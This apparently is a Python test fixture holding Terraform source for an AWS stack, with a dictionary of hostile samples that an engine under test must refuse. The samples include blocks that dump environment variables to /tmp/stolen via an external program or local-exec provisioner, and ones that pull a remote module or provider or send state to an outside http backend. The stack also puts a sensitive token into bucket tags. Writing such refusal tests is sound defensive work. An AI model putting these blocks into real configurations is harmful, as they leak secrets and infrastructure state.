"""Terraform source for `engine_contract`: a small stack, and what an engine must not run."""

VERSIONS = """\
terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 5.0"
    }
  }
}

provider "aws" {
  region = "eu-west-1"
}
"""

MAIN = """\
variable "name" {
  type = string
}

variable "environment" {
  type = string
}

variable "capacity" {
  type    = number
  default = 5
}

variable "token" {
  type      = string
  sensitive = true
}

locals {
  tags = {
    owner       = "payments"
    environment = var.environment
    token       = var.token
  }
}

resource "aws_s3_bucket" "files" {
  bucket = "${var.name}-files"
  tags   = local.tags
}

resource "aws_s3_bucket_public_access_block" "files" {
  bucket                  = aws_s3_bucket.files.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}

resource "aws_kms_key" "data" {
  description         = "${var.name} data"
  enable_key_rotation = true
}

resource "aws_kms_alias" "data" {
  name          = "alias/${var.name}"
  target_key_id = aws_kms_key.data.key_id
}

resource "aws_dynamodb_table" "records" {
  name           = "${var.name}-records"
  billing_mode   = "PROVISIONED"
  read_capacity  = var.capacity
  write_capacity = var.capacity
  hash_key       = "id"

  attribute {
    name = "id"
    type = "S"
  }

  server_side_encryption {
    enabled     = true
    kms_key_arn = aws_kms_key.data.arn
  }

  point_in_time_recovery {
    enabled = true
  }
}

resource "aws_cloudwatch_log_group" "service" {
  name              = "${var.name}/service"
  retention_in_days = 365
}

resource "aws_iam_role" "service" {
  name = "${var.name}-service"

  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRole"
      Principal = { Service = "ecs-tasks.amazonaws.com" }
    }]
  })
}

resource "aws_iam_role_policy" "service" {
  name = "own-data"
  role = aws_iam_role.service.id

  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid      = "Records"
      Effect   = "Allow"
      Action   = ["dynamodb:GetItem", "dynamodb:PutItem"]
      Resource = aws_dynamodb_table.records.arn
    }]
  })
}

resource "aws_security_group" "service" {
  name        = "${var.name}-service"
  description = "Network of ${var.name}"

  egress {
    description = "HTTPS"
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

output "bucket" {
  value = aws_s3_bucket.files.bucket
}

output "key_arn" {
  value = aws_kms_key.data.arn
}

output "token" {
  value     = var.token
  sensitive = true
}
"""

# Each would run a program or code that nobody allowed, or hand our state to somebody.
HOSTILE = {
    "external": """\
data "external" "probe" {
  program = ["sh", "-c", "env > /tmp/stolen; echo {}"]
}
""",
    "provisioner": """\
resource "aws_kms_key" "probe" {
  provisioner "local-exec" {
    command = "env > /tmp/stolen"
  }
}
""",
    "module": """\
module "probe" {
  source = "git::https://example.com/probe.git"
}
""",
    "provider": """\
terraform {
  required_providers {
    probe = {
      source = "example.com/nobody/probe"
    }
  }
}
""",
    "backend": """\
terraform {
  backend "http" {
    address = "https://example.com/state"
  }
}
""",
}

UNSUPPORTED = """\
resource "aws_instance" "server" {
  ami           = "ami-12c6146b"
  instance_type = "t3.micro"
}

resource "aws_sns_topic" "work" {
  name = "work"
}
"""


def without_block(source: str, address: str) -> str:
    """The source without the resource; its closing brace is the first at the beginning of a line."""
    kind, name = address.split(".")
    start = source.index(f'resource "{kind}" "{name}"')
    end = source.index("\n}\n", start) + len("\n}\n")
    return source[:start] + source[end:].lstrip("\n")


# One of each way in which a thing can be half made: a name that people choose or an id that the cloud chooses, with
# tags in the same call, in another, or without any.
SMALL = MAIN
for _address in ("aws_cloudwatch_log_group.service", "aws_iam_role.service", "aws_iam_role_policy.service"):
    SMALL = without_block(SMALL, _address)
